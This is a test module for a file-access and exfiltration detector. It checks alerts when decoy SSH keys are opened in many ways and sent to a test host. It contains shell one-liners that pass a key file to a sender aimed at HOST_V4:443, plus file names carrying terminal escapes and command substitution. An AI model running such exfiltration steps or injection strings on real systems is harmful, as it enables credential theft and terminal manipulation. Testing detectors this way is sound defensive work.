# SPDX-License-Identifier: GPL-2.0-or-later
"""G01, G02, G06, G09, G14: how a file is opened and named."""

import os

import harness
from harness import program, truths
from net import HOST_V4
from tap import Failure, require, require_equal

# Longer than any path buffer: 28 components of 200 bytes exceed PATH_MAX (4096).
LONG_COMPONENTS, LONG_NAME = 28, b"long" * 50
# The least number of components, with the name of the file, that the BPF programs walk (bpf/abi/policy.h:
# BW_PATH_STEPS_MAX, which counts mounts, too).
COMPONENTS_MAX = 200
# A loss of a cause that was raised before is raised again after 10 s at the earliest.
STATE_TIMEOUT = 30


def open_call(stage, variant):
    alert, = stage.theft("get-open-calls", variant)
    exe = program("technique-get-open-calls")
    require_equal(alert["process"]["exe"], exe, "process.exe")
    require_equal(alert["process"]["comm"], os.path.basename(exe)[:15], "process.comm")
    require(f" {variant} " in alert["process"]["cmdline"], f"cmdline: {alert['process']['cmdline']}")


def deep_key(home, components, name=b"d"):
    """A decoy whose absolute path has this many components; created relative to a directory, as the path may be longer
    than PATH_MAX."""
    missing = components - (home.ssh.count(b"/") + 1)
    path, at = home.ssh, os.open(home.ssh, os.O_PATH)
    for _ in range(missing):
        os.mkdir(name, dir_fd=at)
        deeper = os.open(name, os.O_PATH | os.O_DIRECTORY, dir_fd=at)
        os.close(at)
        at, path = deeper, path + b"/" + name
    content = home.secret()
    fd = os.open(b"id_deep", os.O_CREAT | os.O_WRONLY | os.O_EXCL, 0o600, dir_fd=at)
    os.write(fd, content)
    os.close(fd)
    os.close(at)
    return path + b"/id_deep", content


def deep_path(stage):
    stage.theft("get-long-names", "direct", make_key=lambda: deep_key(stage.home, COMPONENTS_MAX))


def too_deep_path(stage, components, name):
    """A path that exceeds every buffer is an alert with the end of the path, or a loss that is raised: never
    silence."""
    key, secret = deep_key(stage.home, components, name)
    before = len(stage.bw.states)
    truth, = truths(stage.play("get-long-names", "walk", key))
    stage.net.sink.wait_arrived(secret)

    def reported():
        return ([a for a in stage.bw.alerts if a["process"]["pid"] == truth.sender]
                or [s for s in stage.bw.states[before:] if s.get("cause") == "path_truncated"])

    # Losses are raised with the next record, which is the marker's.
    stage.bw.prove_delivered(stage.net, stage.home)
    found, = stage.bw.wait(reported, STATE_TIMEOUT, "an alert or a state record")[:1]
    if found["kind"] == "state":
        return
    for entry in found["files"]:
        shown = (entry["path"] or "").encode()
        if entry["pid"] == truth.toucher and entry["truncated"] and shown:
            if key.endswith(shown.lstrip(b"./")):
                return
    raise Failure(f"the file is not shown as the cut end of its path: {str(found['files'])[:600]}")


HOSTILE_NAMES = {
    "newline": b"id_a\nb", "escape": b"id_\x1b[2J\x1b]0;title\x07",
    "invalid UTF-8": b"id_\xff\xfe\xc0\xaf\xed\xa0\x80",
    "quote and backslash": b"id_\"\\'$(x)`", "spaces": b" id  ", "UTF-8": "id_schlüssel_鍵".encode(),
    "longest": b"i" * 255, "longest invalid": b"\xff" * 255,
    "controls": bytes(range(1, 47)) + bytes(range(48, 128)),
}


def hostile_name(stage, name):
    stage.theft("get-open-calls", "openat", make_key=lambda: stage.home.key(name))


def shell_descriptor(stage, shell, script, variant, toucher_is_shell):
    key, secret = stage.home.key()
    send = program("technique-send")
    command = [shell, "-c", script, "sh", send, key.decode(), HOST_V4, "443"]
    truth, = truths(stage.play("send", variant, key, command=command))
    stage.net.sink.wait_arrived(secret)
    alert = stage.check(truth, key, HOST_V4, 443, "tcp")
    require_equal(truth.toucher != truth.sender, toucher_is_shell, "the shell itself opened it")
    entry = next(e for e in alert["files"] if e["path"] == key.decode())
    require_equal(entry["exe"], os.path.realpath(shell), "files[].exe")
    require_equal(alert["process"]["exe"], send, "process.exe")


def excluded_path(stage):
    """The default policy excludes ~/.ssh/*.pub, which is not secret."""
    key, secret = stage.home.key(b"id_decoy.pub")
    truth, = truths(stage.play("get-open-calls", "openat", key))
    stage.net.sink.wait_arrived(secret)
    stage.expect_silence(truth.sender, "an excluded path")


def part(t, stage):
    for variant in ("open", "openat", "openat2", "creat", "int80"):
        t.case(f"G01 opened by {variant}", open_call, stage, variant)
    t.case("G06 opened by its handle", open_call, stage, "handle")
    t.case("G07 executed, and passed to an interpreter", stage.theft, "get-exec", "executed")
    for variant in ("chdir", "fchdir", "dirfd", "dotdot", "symlink-file", "symlink-directory",
                    "proc-self-root", "proc-self-cwd", "proc-parent-root", "dev-fd"):
        t.case(f"G02 named through {variant}", stage.theft, "get-path-forms", variant)
    t.case("G09 sh: exec 3<key; exec thief", shell_descriptor, stage, "/bin/sh",
           'exec 3<"$2"; exec "$1" self:3 "$2" "$3" "$4"', "self:3", False)
    t.case("G09 sh: exec 3<key; thief", shell_descriptor, stage, "/bin/sh",
           'exec 3<"$2"; "$1" parent:3 "$2" "$3" "$4"; exit $?', "parent:3", True)
    # dash opens it before it forks, bash afterwards.
    if os.path.basename(os.path.realpath("/bin/sh")) == "dash":
        t.case("G09 dash: thief < key", shell_descriptor, stage, "/bin/sh",
               '"$1" parent "$2" "$3" "$4" < "$2"; exit $?', "parent", True)
    t.case("G09 bash: thief < key", shell_descriptor, stage, "/bin/bash",
           '"$1" self "$2" "$3" "$4" < "$2"; exit $?', "self", False)
    t.case(f"G14 {COMPONENTS_MAX} components deep", deep_path, stage)
    t.case("G14 deeper than the programs walk", too_deep_path, stage, COMPONENTS_MAX + 60, b"deeper")
    t.case("G14 longer than PATH_MAX", too_deep_path, stage, LONG_COMPONENTS, LONG_NAME)
    for what, name in HOSTILE_NAMES.items():
        t.case(f"G14 hostile name: {what}", hostile_name, stage, name)
    t.case("ExcludePath stays silent", excluded_path, stage)


PRINTABLE = set(range(0x20, 0x7F)) | {0x0A}


def text_output(net, home):
    """--alerts=text under hostile names: only printable UTF-8 and newlines reach the terminal."""
    with harness.Barbwired(alerts="text") as bw:
        for name in HOSTILE_NAMES.values():
            key, _ = home.key(name)
            result = net.run([program("technique-get-open-calls"), "openat", key, HOST_V4, "443"])
            require(result.returncode == 0, result.stderr)
        key, _ = home.key(b"id_last_of_all")
        net.run([program("technique-get-open-calls"), "openat", key, HOST_V4, "443"])
        bw.wait(lambda: any(b"id_last_of_all" in line for line in bw.output), harness.ALERT_TIMEOUT,
                "the last alert")
        bw.stop()
    output = b"\n".join(bw.output)
    text = output.decode("utf-8")
    bad = sorted({c for c in text if ord(c) < 0x80 and ord(c) not in PRINTABLE or 0x80 <= ord(c) < 0xA0})
    require(not bad, f"control characters in text output: {bad}")
    for shown in (r"id_a\x0ab", r"id_\x1b[2J", r"\xff\xfe\xc0\xaf", "鍵"):
        require(shown in text, f"{shown} is not in the text output:\n{text[:3000]}")
